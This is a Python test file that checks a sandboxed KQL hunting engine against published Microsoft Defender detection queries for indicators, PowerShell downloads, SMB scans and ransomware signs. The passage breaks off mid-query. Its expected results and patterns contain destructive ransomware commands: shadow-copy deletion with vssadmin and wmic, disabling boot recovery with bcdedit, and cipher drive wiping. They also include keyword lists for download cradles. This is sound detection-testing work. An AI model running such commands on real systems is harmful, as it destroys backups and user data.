"""Real-world advanced-hunting queries that must run on the sandbox, each against a known answer.

Every query below is a literal copy (trailing blanks trimmed, tabs as spaces) of a published one, attributed in the
comment above it: the bulk indicator queries of ../shared/research/mde-api.md 5.4, the examples on
Microsoft Learn's advanced hunting pages, Microsoft's own hunting library and community libraries
(alerts with evidence, logons around an alert, process trees, connections by port, encoded
commands, registry, image loads, FileProfile). Each runs over the planted world of
`tests.sandbox.real_hunting_data` (six devices, a few dozen events placed so that the query finds
exactly what its comment says) through the Graph `runHuntingQuery` endpoint (some also through the
legacy one); the queries pinned to years-old pivot times run on `run_query`, since the endpoints
look back 30 days. The first tests pin the engine fixes these queries needed.
"""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta

import httpx
import pytest

from enrich.sandbox import Sandbox, SandboxConfig, generate
from enrich.sandbox.kql import KqlError, run_query
from enrich.sandbox.schema import TABLES
from enrich.sandbox.tables.fill import user_sid
from tests.mde_helpers import sandbox_token
from tests.sandbox import real_hunting_data as world

NOW = world.NOW


def scalar(query: str) -> tuple[list[tuple[str, str]], list[dict[str, object]]]:
    result = run_query(query, {}, NOW)
    return [(c, t) for c, t in result.schema], result.rows


# --- engine fixes the real queries needed -------------------------------------------------------


def test_typeof_argument_gives_extract_its_type():
    schema, rows = scalar('print x = extract(@"(\\d+)", 1, "ab12", typeof(long)) | extend y = x + 1')
    assert schema == [("x", "long"), ("y", "long")]
    assert rows == [{"x": 12, "y": 13}]
    schema, rows = scalar('print x = extract_json("$.a", "{\\"a\\":3}", typeof(int))')
    assert schema == [("x", "int")] and rows == [{"x": 3}]


def test_a_dynamic_value_is_taken_as_text_where_a_string_is_expected():
    schema, rows = scalar(
        'print a = strlen(split("host.corp.contoso.com", ".")[0]), b = tolower(dynamic("AB")),'
        ' c = substring(split("x.y", ".")[1], 0, 1), d = strlen(dynamic(null)), e = tolower(dynamic([1,"A"]))'
    )
    assert schema == [("a", "long"), ("b", "string"), ("c", "string"), ("d", "long"), ("e", "string")]
    assert rows == [{"a": 4, "b": "ab", "c": "y", "d": 0, "e": '[1,"a"]'}]


def test_deprecated_aggregation_names_answer_as_their_aggregation():
    rows = 'datatable(a: long, b: string) [1, "x", 2, "y", 2, "y"]'
    schema, got = scalar(f"{rows} | summarize makeset(b), L=makelist(a), M=argmax(a, b)")
    assert schema == [("set_b", "dynamic"), ("L", "dynamic"), ("M", "long"), ("b", "string")]
    assert got == [{"set_b": ["x", "y"], "L": [1, 2, 2], "M": 2, "b": "y"}]
    assert scalar(f"{rows} | summarize argmin(a, b)")[1] == [{"a": 1, "b": "x"}]


def test_a_tuple_of_names_renames_the_columns_of_one_aggregation():
    schema, rows = scalar('print a=1, b="x" | summarize (Low, Name)=arg_min(a, b), c=count() by b')
    assert schema == [("b", "string"), ("Low", "long"), ("Name", "string"), ("c", "long")]
    assert rows == [{"b": "x", "Low": 1, "Name": "x", "c": 1}]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("print a=1 | extend (x, y) = a", "a tuple of names is allowed only in summarize"),
        ('print a=1, b="x" | summarize (x) = arg_max(a, b)', "1 names for the 2 columns of arg_max()"),
    ],
)
def test_a_misused_tuple_of_names_is_refused(query, message):
    with pytest.raises(KqlError, match=re.escape(message)):
        scalar(query)


def test_mvexpand_is_mv_expand_with_its_legacy_limit_of_128():
    values = 'print d=split(strrep("x", 200, ","), ",")'
    assert scalar(f"{values} | mvexpand d | count")[1] == [{"Count": 128}]
    assert scalar(f"{values} | mvexpand d limit 150 | count")[1] == [{"Count": 150}]
    assert scalar(f"{values} | mv-expand d | count")[1] == [{"Count": 200}]


def test_an_aggregation_inside_an_expression_is_computed_per_group():
    # the consolidated ransomware query's iff(make_set(X) contains "1", 1, 0) and a ratio
    rows = 'datatable(a: long, b: string) [1, "x", 2, "y", 3, "x"]'
    schema, got = scalar(
        f'{rows} | summarize m = max(a), n = count() * 2, s = iff(make_set(b) contains "y", 1, 0),'
        " 100.0 * countif(a > 1) / count() by b"
    )
    assert schema == [("b", "string"), ("m", "long"), ("n", "long"), ("s", "long"), ("Column1", "real")]
    assert got == [
        {"b": "x", "m": 3, "n": 4, "s": 0, "Column1": 50.0},
        {"b": "y", "m": 2, "n": 2, "s": 1, "Column1": 100.0},
    ]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("summarize x = a + count()", "Failed to resolve scalar expression named 'a'"),
        (
            "summarize x = 1 + arg_max(a, b)",
            "arg_max() gives several columns and cannot be part of an expression",
        ),
        ("summarize x = a + 1", "the expression is not an aggregation"),
    ],
)
def test_a_summarize_expression_is_checked(query, message):
    with pytest.raises(KqlError, match=re.escape(message)):
        scalar(f'datatable(a: long, b: string) [1, "x"] | {query}')


# --- the planted world, served over HTTPS -----------------------------------------------------

GRAPH = ("/v1.0/security/runHuntingQuery", "https://graph.microsoft.com/.default", "results")
LEGACY = ("/api/advancedqueries/run", "https://api.securitycenter.microsoft.com/.default", "Results")


@pytest.fixture(scope="module")
def planted():
    return world.build()


@pytest.fixture(scope="module")
def sb(planted):
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(generate, "build", lambda *args, **kwargs: planted)
        sandbox = Sandbox(
            SandboxConfig(
                seed=9, sample_dir="", hunting_limits=(10_000, 100_000), graph_hunting_limits=(10_000, None)
            )
        )
    with sandbox:
        sandbox.data.freeze_clock(world.ticks(NOW))
        yield sandbox


def hunt(sb, query: str, endpoint=GRAPH) -> list[dict[str, object]]:
    """The rows an endpoint answers for `query` (asserting a 200)."""
    path, scope, field = endpoint
    reply = httpx.post(
        f"{sb.base_url}{path}",
        json={"Query": query},
        verify=sb.ssl_context(),
        timeout=30,
        headers={"Authorization": f"Bearer {sandbox_token(sb, scope)}"},
    )
    assert reply.status_code == 200, reply.text[:800]
    return reply.json()[field]


def engine(planted, query: str) -> list[dict[str, object]]:
    """The rows `run_query` answers over the planted tables with no lookback (for the queries whose
    fixed pivot times lie years back, which the hunting endpoints' 30 days would hide)."""
    return run_query(query, planted.tables, NOW, file_profile=planted.file_profile).rows


def pick(rows, *columns: str) -> list[dict[str, object]]:
    return [{c: r[c] for c in columns} for r in rows]


def unordered(rows) -> list[dict[str, object]]:
    """Rows in a canonical order (for queries whose row order Kusto leaves undefined)."""
    return sorted(rows, key=lambda r: json.dumps(r, sort_keys=True, default=str))


def as_sets(rows, *columns: str) -> list[dict[str, object]]:
    """`make_set` columns as sorted lists (Kusto leaves the order of a set undefined)."""
    return [{k: sorted(v, key=str) if k in columns else v for k, v in r.items()} for r in rows]


SHA1S, IPS, DOMAINS = world.INVOICE.sha1, "10.209.67.177", "client.wns.windows.com"
PROCESS_COLUMNS = [c for c, _ in TABLES["DeviceProcessEvents"]]

# === mde-api.md 5.4: the bulk indicator queries (literal) ======================================

BULK_SHA1 = """let sha1s = dynamic(["4388963aaa83afe2042a46a3c017ad50bdcdafb3", "0991a395da64e1c5fbe8732ed11e6be064081d9f"]);
DeviceFileEvents
| where Timestamp > ago(30d)
| where SHA1 in~ (sha1s) or InitiatingProcessSHA1 in~ (sha1s)
| summarize Devices = dcount(DeviceId), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by SHA1"""

BULK_IP = """let ips = dynamic(["10.209.67.177", "2a01:110:68:4:59e4:3916:3b3e:4f96"]);
DeviceNetworkEvents
| where Timestamp > ago(30d) and RemoteIP in (ips)
| summarize Devices = dcount(DeviceId), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by RemoteIP"""

BULK_DOMAIN = """let domains = dynamic(["example.com", "client.wns.windows.com"]);
DeviceNetworkEvents
| where Timestamp > ago(30d) and isnotempty(RemoteUrl)
| extend Host = tolower(coalesce(tostring(parse_url(RemoteUrl).Host), RemoteUrl))
| where Host in (domains) or Host has_any (domains)   // has_any also matches subdomains (term match); drop it for exact-host matching
| summarize Devices = dcount(DeviceId), FirstSeen = min(Timestamp), LastSeen = max(Timestamp) by Host"""


def seen(devices: int, first: datetime, last: datetime) -> dict[str, object]:
    return {"Devices": devices, "FirstSeen": world.iso(first), "LastSeen": world.iso(last)}


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_bulk_file_query_counts_devices_and_times_per_sha1(sb, endpoint):
    # the SHA-1 matched as the file (invoice.exe, 2 devices; the 40-day-old sighting is out) and
    # as the initiating process (updater.exe wrote payload.dll: the row's SHA1 is payload.dll's)
    assert unordered(hunt(sb, BULK_SHA1, endpoint)) == unordered(
        [
            {"SHA1": world.INVOICE.sha1, **seen(2, world.ago(days=3), world.ago(hours=20))},
            {"SHA1": world.PAYLOAD.sha1, **seen(1, world.ago(days=2), world.ago(days=2))},
        ]
    )


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_bulk_ip_query_counts_devices_and_times_per_ip(sb, endpoint):
    assert unordered(hunt(sb, BULK_IP, endpoint)) == unordered(
        [
            {"RemoteIP": "10.209.67.177", **seen(2, world.ago(days=4), world.ago(days=1))},
            {
                "RemoteIP": "2a01:110:68:4:59e4:3916:3b3e:4f96",
                **seen(1, world.ago(days=6), world.ago(days=6)),
            },
        ]
    )


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_bulk_domain_query_reads_urls_and_bare_hosts(sb, endpoint):
    # example.com from a full URL, the bare FQDN through coalesce, sub.example.com by has_any;
    # notexample.com is no term match
    assert unordered(hunt(sb, BULK_DOMAIN, endpoint)) == unordered(
        [
            {"Host": "example.com", **seen(1, world.ago(days=5), world.ago(days=5))},
            {"Host": "client.wns.windows.com", **seen(1, world.ago(days=4), world.ago(days=4))},
            {"Host": "sub.example.com", **seen(1, world.ago(days=3), world.ago(days=3))},
        ]
    )


# === Microsoft Learn: advanced hunting pages (MicrosoftDocs/defender-docs, defender-xdr/) =======

# advanced-hunting-query-language.md, "Try your first query"
FIRST_QUERY = r"""// Finds PowerShell execution events that could involve a download
union DeviceProcessEvents, DeviceNetworkEvents
| where Timestamp > ago(7d)
// Pivoting on PowerShell processes
| where FileName in~ ("powershell.exe", "powershell_ise.exe")
// Suspicious commands
| where ProcessCommandLine has_any("WebClient",
 "DownloadFile",
 "DownloadData",
 "DownloadString",
"WebRequest",
"Shellcode",
"http",
"https")
| project Timestamp, DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine,
FileName, ProcessCommandLine, RemoteIP, RemoteUrl, RemotePort, RemoteIPType
| top 100 by Timestamp"""


def test_docs_first_query_finds_the_powershell_download(sb):
    # the download 2 days ago; not the one 8 days ago, not Get-Process, not the network rows
    assert hunt(sb, FIRST_QUERY) == [
        {
            "Timestamp": world.iso(world.ago(days=2)),
            "DeviceName": world.BOB.name,
            "InitiatingProcessFileName": "cmd.exe",
            "InitiatingProcessCommandLine": '"cmd.exe"',
            "FileName": "powershell.exe",
            "ProcessCommandLine": world.DOWNLOAD_COMMAND,
            "RemoteIP": "",
            "RemoteUrl": "",
            "RemotePort": None,
            "RemoteIPType": "",
        }
    ]


# advanced-hunting-fileprofile-function.md, both examples
FILE_PROFILE_FIRST = r"""DeviceFileEvents
| where isnotempty(SHA1) and Timestamp > ago(1d)
| take 10
| project SHA1
| invoke FileProfile()"""

FILE_PROFILE_LOW_PREVALENCE = r"""DeviceFileEvents
| where ActionType == "FileCreated" and Timestamp > ago(1d)
| project CreatedOn = Timestamp, FileName, FolderPath, SHA1
| invoke FileProfile("SHA1", 500)
| where GlobalPrevalence < 15"""


def profile_of(info) -> dict[str, object]:
    return {
        "SHA1": info.sha1,
        "SHA256": info.sha256,
        "MD5": info.md5,
        "FileSize": info.size,
        "GlobalPrevalence": info.global_prevalence,
        "ProfileAvailability": "Available",
    }


PROFILE_COLUMNS = ("SHA1", "SHA256", "MD5", "FileSize", "GlobalPrevalence", "ProfileAvailability")


def test_docs_file_profile_enriches_the_last_day_files(sb):
    rows = hunt(sb, FILE_PROFILE_FIRST)
    assert unordered(pick(rows, *PROFILE_COLUMNS)) == unordered(
        [profile_of(world.INVOICE), profile_of(world.REPORT), profile_of(world.PAYLOAD)]
    )


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_docs_file_profile_lists_low_prevalence_created_files(sb, endpoint):
    # invoice.exe (prevalence 3) was created 20 hours ago; report.docx (5000) is common
    rows = hunt(sb, FILE_PROFILE_LOW_PREVALENCE, endpoint)
    assert pick(rows, "CreatedOn", "FileName", "FolderPath", *PROFILE_COLUMNS) == [
        {
            "CreatedOn": world.iso(world.ago(hours=20)),
            "FileName": "invoice.exe",
            "FolderPath": r"C:\Users\alice\Downloads\invoice.exe",
            **profile_of(world.INVOICE),
        }
    ]


# advanced-hunting-best-practices.md: "Identify unique processes with process IDs"
SMB_SCAN = r"""DeviceNetworkEvents
| where RemotePort == 445 and Timestamp > ago(12h) and InitiatingProcessId !in (0, 4)
| summarize RemoteIPCount=dcount(RemoteIP) by DeviceName, InitiatingProcessId, InitiatingProcessCreationTime, InitiatingProcessFileName
| where RemoteIPCount > 10"""


def test_docs_smb_scan_finds_one_process_reaching_many_hosts(sb):
    assert hunt(sb, SMB_SCAN) == [
        {
            "DeviceName": world.ALICE.name,
            "InitiatingProcessId": world.SCANNER_PID,
            "InitiatingProcessCreationTime": world.iso(world.SCANNER_CREATED),
            "InitiatingProcessFileName": "scanner.exe",
            "RemoteIPCount": 12,
        }
    ]


# advanced-hunting-best-practices.md: "Query command lines" (the best query)
NET_STOP_MPSSVC = r'''DeviceProcessEvents
| where Timestamp > ago(7d) and FileName in~ ("net.exe", "net1.exe")
| extend CanonicalCommandLine=replace("\"", "", ProcessCommandLine)
| where CanonicalCommandLine contains "stop" and CanonicalCommandLine contains "MpsSvc"'''


def test_docs_command_line_query_ignores_quotes(sb):
    rows = hunt(sb, NET_STOP_MPSSVC)
    assert list(rows[0]) == [*PROCESS_COLUMNS, "CanonicalCommandLine"]
    assert pick(rows, "DeviceName", "ProcessCommandLine", "CanonicalCommandLine") == [
        {
            "DeviceName": world.ALICE.name,
            "ProcessCommandLine": 'net.exe stop "MpsSvc"',
            "CanonicalCommandLine": "net.exe stop MpsSvc",
        }
    ]


# advanced-hunting-best-practices.md: "Apply filters early"
USB_MOUNT = r"""DeviceEvents
| where Timestamp > ago(1d)
| where ActionType == "UsbDriveMount"
| where DeviceName == "user-desktop.domain.com"
| extend DriveLetter = extractjson("$.DriveLetter", AdditionalFields)"""


def test_docs_usb_mount_reads_the_drive_letter(sb):
    rows = hunt(sb, USB_MOUNT)
    assert pick(rows, "DeviceName", "ActionType", "DriveLetter") == [
        {"DeviceName": "user-desktop.domain.com", "ActionType": "UsbDriveMount", "DriveLetter": "E:"}
    ]


# advanced-hunting-find-ransomware.md: individual signs
TASKKILL = r"""// Find attempts to stop processes using taskkill.exe
DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "taskkill.exe"
| summarize taskKillCount = dcount(ProcessCommandLine), TaskKillList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 2m)
| where taskKillCount > 10"""

SHADOW_COPY = r"""DeviceProcessEvents
| where FileName =~ "wmic.exe"
| where ProcessCommandLine has "shadowcopy" and ProcessCommandLine has "delete"
| project DeviceId, Timestamp, InitiatingProcessFileName, FileName,
ProcessCommandLine, InitiatingProcessIntegrityLevel, InitiatingProcessParentFileName"""

SYSTEM_RESTORE = r"""DeviceProcessEvents
//Pivoting for rundll32
| where InitiatingProcessFileName =~ 'rundll32.exe'
//Looking for empty command line
and InitiatingProcessCommandLine !contains " " and InitiatingProcessCommandLine != ""
//Looking for schtasks.exe as the created process
and FileName in~ ('schtasks.exe')
//Disabling system restore
and ProcessCommandLine has 'Change' and ProcessCommandLine has 'SystemRestore'
and ProcessCommandLine has 'disable'"""


def test_ransomware_taskkill_burst_in_one_two_minute_bin(sb):
    # 11 distinct taskkill commands on the DB server within one 2-minute bin; 3 on ALICE
    rows = hunt(sb, TASKKILL)
    assert as_sets(rows, "TaskKillList") == [
        {
            "DeviceId": world.DB.id,
            "Timestamp": world.iso(world.TASKKILL_BIN),
            "taskKillCount": 11,
            "TaskKillList": sorted(f"taskkill.exe /f /im proc{i}.exe" for i in range(11)),
        }
    ]


def test_ransomware_shadow_copy_deletion(sb):
    assert hunt(sb, SHADOW_COPY) == [
        {
            "DeviceId": world.DB.id,
            "Timestamp": world.iso(world.ago(hours=5)),
            "InitiatingProcessFileName": "cmd.exe",
            "FileName": "wmic.exe",
            "ProcessCommandLine": "wmic.exe shadowcopy delete /nointeractive",
            "InitiatingProcessIntegrityLevel": "Medium",
            "InitiatingProcessParentFileName": "explorer.exe",
        }
    ]


def test_ransomware_system_restore_disabled_from_a_bare_rundll32(sb):
    rows = hunt(sb, SYSTEM_RESTORE)
    assert pick(rows, "DeviceName", "FileName", "InitiatingProcessCommandLine") == [
        {
            "DeviceName": world.DB.name,
            "FileName": "schtasks.exe",
            "InitiatingProcessCommandLine": "rundll32.exe",
        }
    ]


# advanced-hunting-find-ransomware.md: "Stopping processes using net stop", "Deletion of data on
# multiple drives using cipher.exe", and the consolidated query that weighs every sign
NET_STOP = r"""// Find attempts to stop processes using net stop
DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "net.exe" and ProcessCommandLine has "stop"
| summarize netStopCount = dcount(ProcessCommandLine), NetStopList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 2m)
| where netStopCount > 10"""

CIPHER = r"""// Look for cipher.exe deleting data from multiple drives
DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "cipher.exe"
// cipher.exe /w flag used for deleting data
| where ProcessCommandLine has "/w"
| summarize CipherCount = dcount(ProcessCommandLine),
CipherList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 1m)
// cipher.exe accessing multiple drives in a short timeframe
| where CipherCount > 1"""

RANSOMWARE_CONSOLIDATED = r"""// Find attempts to stop processes using taskkill.exe
let taskKill = DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "taskkill.exe"
| summarize taskKillCount = dcount(ProcessCommandLine), TaskKillList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 2m)
| where taskKillCount > 10;
// Find attempts to stop processes using net stop
let netStop = DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "net.exe" and ProcessCommandLine has "stop"
| summarize netStopCount = dcount(ProcessCommandLine), NetStopList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 2m)
| where netStopCount > 10;
// Look for cipher.exe deleting data from multiple drives
let cipher = DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "cipher.exe"
// cipher.exe /w flag used for deleting data
| where ProcessCommandLine has "/w"
| summarize CipherCount = dcount(ProcessCommandLine),
CipherList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 1m)
// cipher.exe accessing multiple drives in a short timeframe
| where CipherCount > 1;
// Look for use of wevtutil to clear multiple logs
let wevtutilClear = DeviceProcessEvents
| where Timestamp > ago(1d)
| where ProcessCommandLine has "WEVTUTIL" and ProcessCommandLine has "CL"
| summarize LogClearCount = dcount(ProcessCommandLine), ClearedLogList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 5m)
| where LogClearCount > 10;
// Look for sc.exe disabling services
let scDisable = DeviceProcessEvents
| where Timestamp > ago(1d)
| where ProcessCommandLine has "sc" and ProcessCommandLine has "config" and ProcessCommandLine has "disabled"
| summarize ScDisableCount = dcount(ProcessCommandLine), ScDisableList = make_set(ProcessCommandLine) by DeviceId, bin(Timestamp, 5m)
| where ScDisableCount > 10;
// Main query for counting and aggregating evidence
DeviceProcessEvents
| where Timestamp > ago(1d)
| where FileName =~ "vssadmin.exe" and ProcessCommandLine has_any("list shadows", "delete shadows")
or FileName =~ "fsutil.exe" and ProcessCommandLine has "usn" and ProcessCommandLine has "deletejournal"
or ProcessCommandLine has("bcdedit") and ProcessCommandLine has_any("recoveryenabled no", "bootstatuspolicy ignoreallfailures")
or ProcessCommandLine has "wbadmin" and ProcessCommandLine has "delete" and ProcessCommandLine has_any("backup", "catalog", "systemstatebackup")
or (ProcessCommandLine has "wevtutil" and ProcessCommandLine has "cl")
or (ProcessCommandLine has "wmic" and ProcessCommandLine has "shadowcopy delete")
or (ProcessCommandLine has "sc" and ProcessCommandLine has "config" and ProcessCommandLine has "disabled")
| extend Bcdedit = iff(ProcessCommandLine has "bcdedit" and ProcessCommandLine has_any("recoveryenabled no", "bootstatuspolicy ignoreallfailures"), 1, 0)
| extend ShadowCopyDelete = iff (ProcessCommandLine has "shadowcopy delete", 1, 0)
| extend VssAdminShadows = iff(ProcessCommandLine has "vssadmin" and ProcessCommandLine has_any("list shadows", "delete shadows"), 1, 0)
| extend Wbadmin = iff(ProcessCommandLine has "wbadmin" and ProcessCommandLine has "delete" and ProcessCommandLine has_any("backup", "catalog", "systemstatebackup"), 1,0)
| extend Fsutil = iff(ProcessCommandLine has "fsutil" and ProcessCommandLine has "usn" and ProcessCommandLine has "deletejournal", 1, 0)
| summarize FirstActivity = min(Timestamp), ReportId = any(ReportId), Commands = make_set(ProcessCommandLine) by DeviceId, Fsutil, Wbadmin, ShadowCopyDelete, Bcdedit, VssAdminShadows, bin(Timestamp, 6h)
// Joining extra evidence
| join kind=leftouter (wevtutilClear) on $left.DeviceId == $right.DeviceId
| join kind=leftouter (cipher) on $left.DeviceId == $right.DeviceId
| join kind=leftouter (netStop) on $left.DeviceId == $right.DeviceId
| join kind=leftouter (taskKill) on $left.DeviceId == $right.DeviceId
| join kind=leftouter (scDisable) on $left.DeviceId == $right.DeviceId
| extend WevtutilUse = iff(LogClearCount > 10, 1, 0)
| extend CipherUse = iff(CipherCount > 1, 1, 0)
| extend NetStopUse = iff(netStopCount > 10, 1, 0)
| extend TaskkillUse = iff(taskKillCount > 10, 1, 0)
| extend ScDisableUse = iff(ScDisableCount > 10, 1, 0)
// Adding up all evidence
| mv-expand CommandList = NetStopList, TaskKillList, ClearedLogList, CipherList, Commands, ScDisableList
// Format results
| summarize BcdEdit = iff(make_set(Bcdedit) contains "1" , 1, 0), NetStop10PlusCommands = iff(make_set(NetStopUse) contains "1", 1, 0), Wevtutil10PlusLogsCleared = iff(make_set(WevtutilUse) contains "1", 1, 0),
CipherMultipleDrives = iff(make_set(CipherUse) contains "1", 1, 0), Fsutil = iff(make_set(Fsutil) contains "1", 1, 0), ShadowCopyDelete = iff(make_set(ShadowCopyDelete) contains "1", 1, 0),
Wbadmin = iff(make_set(Wbadmin) contains "1", 1, 0), TaskKill10PlusCommand = iff(make_set(TaskkillUse) contains "1", 1, 0), VssAdminShadow = iff(make_set(VssAdminShadows) contains "1", 1, 0),
ScDisable = iff(make_set(ScDisableUse) contains "1", 1, 0), TotalEvidenceCount = count(CommandList), EvidenceList = make_set(Commands), StartofBehavior = min(FirstActivity) by DeviceId, bin(Timestamp, 1d)
| extend UniqueEvidenceCount = BcdEdit + NetStop10PlusCommands + Wevtutil10PlusLogsCleared + CipherMultipleDrives + Wbadmin + Fsutil + TaskKill10PlusCommand + VssAdminShadow + ScDisable + ShadowCopyDelete
| where UniqueEvidenceCount > 2"""

DB_SIGNS = [
    "wmic.exe shadowcopy delete /nointeractive",
    "bcdedit.exe /set {default} recoveryenabled no",
    "vssadmin.exe delete shadows /all /quiet",
]


def test_ransomware_net_stop_burst(sb):
    rows = hunt(sb, NET_STOP)
    assert as_sets(rows, "NetStopList") == [
        {
            "DeviceId": world.DB.id,
            "Timestamp": world.iso(world.NET_STOP_BIN),
            "netStopCount": 11,
            "NetStopList": sorted(f"net.exe stop svc{i}" for i in range(11)),
        }
    ]


def test_ransomware_cipher_wiping_two_drives(sb):
    rows = hunt(sb, CIPHER)
    assert as_sets(rows, "CipherList") == [
        {
            "DeviceId": world.DB.id,
            "Timestamp": world.iso(world.CIPHER_MINUTE),
            "CipherCount": 2,
            "CipherList": ["cipher.exe /w:C:\\", "cipher.exe /w:D:\\"],
        }
    ]


def test_ransomware_consolidated_query_weighs_every_sign(sb):
    # DB shows six kinds of sign within a day: 11 net stops and 11 taskkills in 2 minutes, cipher on
    # two drives, boot recovery off, shadow copies deleted by vssadmin and by wmic. Three main-query
    # rows (one per sign pattern), each joined to the bursts and expanded to their 11 commands.
    rows = hunt(sb, RANSOMWARE_CONSOLIDATED)
    assert as_sets(rows, "EvidenceList") == [
        {
            "DeviceId": world.DB.id,
            "Timestamp": world.iso(NOW.replace(hour=0)),
            "BcdEdit": 1,
            "NetStop10PlusCommands": 1,
            "Wevtutil10PlusLogsCleared": 0,
            "CipherMultipleDrives": 1,
            "Fsutil": 0,
            "ShadowCopyDelete": 1,
            "Wbadmin": 0,
            "TaskKill10PlusCommand": 1,
            "VssAdminShadow": 1,
            "ScDisable": 0,
            "TotalEvidenceCount": 33,
            "EvidenceList": sorted(DB_SIGNS),
            "StartofBehavior": world.iso(world.ago(hours=5)),
            "UniqueEvidenceCount": 6,
        }
    ]


# Azure/Azure-Sentinel, "Hunting Queries/Microsoft 365 Defender/Campaigns/Dopplepaymer In-Memory Malware Implant.yaml"
DOPPLEPAYMER = r'''DeviceProcessEvents
| where Timestamp > ago(7d)
| where ProcessCommandLine startswith "-q -s {{" and ProcessCommandLine contains "}} -p "'''


def test_library_dopplepaymer_command_line(sb):
    rows = hunt(sb, DOPPLEPAYMER)
    assert pick(rows, "DeviceName", "FileName", "ProcessCommandLine") == [
        {
            "DeviceName": world.BOB.name,
            "FileName": "rundll32.exe",
            "ProcessCommandLine": world.DOPPLEPAYMER_COMMAND,
        }
    ]


# === Microsoft's hunting query library (Azure/Azure-Sentinel, "Hunting Queries/Microsoft 365
# Defender/"; formerly microsoft/Microsoft-365-Defender-Hunting-Queries) ==========================

# General queries/Device Count by DNS Suffix.yaml
DNS_SUFFIX = r"""DeviceInfo
| where isnotempty(OSPlatform)
| summarize arg_max(Timestamp, DeviceName) by DeviceId
| extend DeviceMachineName = split(DeviceName, '.')[0]
| extend DeviceDomain = substring(DeviceName, strlen(DeviceMachineName) + 1, strlen(DeviceName) - strlen(DeviceMachineName) - 1)
| summarize count() by DeviceDomain"""


def test_library_device_count_by_dns_suffix(sb):
    assert unordered(hunt(sb, DNS_SUFFIX)) == unordered(
        [
            {"DeviceDomain": "corp.contoso.com", "count_": 4},
            {"DeviceDomain": "branch.contoso.com", "count_": 1},
            {"DeviceDomain": "domain.com", "count_": 1},
        ]
    )


# General queries/Machine info from IP address (1).yaml: query #2 and query #4 of the file
MACHINE_FROM_IP = r"""let pivotTimeParam = datetime(2018-07-15 19:51:00);
let ipAddressParam = "192.168.1.5";
let matchingMachines =
    DeviceNetworkInfo
    | where Timestamp between ((pivotTimeParam-15m) ..30m) and IPAddresses contains strcat("\"", ipAddressParam, "\"") and NetworkAdapterStatus == "Up"
    //// Optional - add filters to make sure machine is part of the relevant network (and not using that IP address as part of another private network).
    //// For example:
    // and ConnectedNetworks contains "corp.contoso.com"
    // and IPv4Dhcp == "10.164.3.12"
    // and DefaultGateways contains "\"10.164.3.1\""
    | project DeviceName, Timestamp, IPAddresses, TimeDifference=abs(Timestamp-pivotTimeParam);
DeviceInfo
| where Timestamp between ((pivotTimeParam-15m) ..30m)
| project DeviceName, Timestamp, LoggedOnUsers
| join kind=inner (matchingMachines) on DeviceName, Timestamp
| project Timestamp, DeviceName, LoggedOnUsers, TimeDifference, IPAddresses
// In case multiple machines have reported from that IP address arround that time, start with the ones reporting closest to pivotTimeParam
| sort by TimeDifference asc"""

MACHINE_FROM_IP_ANY = r"""let pivotTimeParam = datetime(2018-07-15 19:51:00);
let ipAddressParam = "192.168.1.5";
DeviceNetworkInfo
| where Timestamp between ((pivotTimeParam-15m) ..30m) and IPAddresses contains strcat("\"", ipAddressParam, "\"") and NetworkAdapterStatus == "Up"
| project DeviceName, Timestamp, Source="NetworkAdapterInfo"
| union (DeviceInfo | where Timestamp between ((pivotTimeParam-15m) .. 30m) and PublicIP == ipAddressParam | project DeviceName, Timestamp, Source="Public IP address")
| extend TimeDifference=abs(Timestamp-pivotTimeParam)
| sort by TimeDifference asc"""

EVE_REPORT = world.PIVOT_2018 + timedelta(minutes=4)
EVE_IP_ADDRESSES = [{"IPAddress": "192.168.1.5", "SubnetPrefix": 24, "AddressType": "Private"}]


def test_library_machine_and_users_from_a_local_ip_at_a_time(planted):
    # EVE reported 192.168.1.5 four minutes after the pivot (its report two hours later is out)
    assert engine(planted, MACHINE_FROM_IP) == [
        {
            "Timestamp": world.iso(EVE_REPORT),
            "DeviceName": world.EVE.name,
            "LoggedOnUsers": [{"UserName": "eve", "DomainName": "CONTOSO", "Sid": user_sid("eve")}],
            "TimeDifference": "00:04:00",
            "IPAddresses": EVE_IP_ADDRESSES,
        }
    ]


def test_library_machines_from_a_local_or_public_ip(planted):
    # the adapter report (4 minutes off) sorts before BOB's cloud report from that public IP (9 minutes)
    assert engine(planted, MACHINE_FROM_IP_ANY) == [
        {
            "DeviceName": world.EVE.name,
            "Timestamp": world.iso(EVE_REPORT),
            "Source": "NetworkAdapterInfo",
            "TimeDifference": "00:04:00",
        },
        {
            "DeviceName": world.BOB.name,
            "Timestamp": world.iso(world.PIVOT_2018 - timedelta(minutes=9)),
            "Source": "Public IP address",
            "TimeDifference": "00:09:00",
        },
    ]


# General queries/Network info of machine.yaml (mvexpand, the legacy spelling)
NETWORK_INFO = r"""let DeviceIdParam = "c0bfefec0bfefec0bfefec0bfefec0bfefecafe";
let pivotTimeParam = datetime(2018-07-15T19:51);
DeviceNetworkInfo
// Query for reports sent +-15 minutes around the time we are interested in
| where Timestamp between ((pivotTimeParam-15m) .. 30m) and DeviceId == DeviceIdParam and NetworkAdapterStatus == "Up"
// IPAddresses contains a list of the IP addresses configured on the network adapter, their subnets, and more.
